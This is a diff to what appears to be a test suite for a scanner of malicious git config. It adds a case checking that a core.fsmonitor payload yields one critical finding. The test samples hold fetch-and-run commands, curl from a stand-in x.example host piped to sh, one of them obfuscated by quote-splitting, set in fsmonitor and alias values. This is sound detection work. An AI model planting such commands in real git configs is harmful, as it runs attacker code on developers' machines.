@@ -66,6 +66,10 @@ silent("hook_downloads_without_running", "git_hook_runs_payload",
 # Command-valued config written in any letter case, and in the user's own config.
 fires("config_upper_case_fsmonitor", "git_config_fsmonitor_command", "critical",
       sample("config-upper-fsmonitor", "[CORE]\n\tRepositoryFormatVersion = 0\n\tFsMonitor = \"./.git/fsm\"\n"), ".git/config")
+# A payload in core.fsmonitor is one critical finding, not two (the payload rule reads another view).
+fires("config_fsmonitor_payload_once", "git_config_fsmonitor_command", "critical",
+      sample("config-fsmonitor-payload", "[core]\n\tfsmonitor = \"sh -c 'cu\"\"rl -s https://x.example/f | sh'\"\n"),
+      ".git/config")
 fires("config_alias_curl", "git_config_command_payload", "critical",
       sample("gitconfig-alias-curl", "[user]\n\tname = Dev\n[Alias]\n\tst = \"!curl -s https://x.example/g | sh; git status\"\n"),
       ".gitconfig")
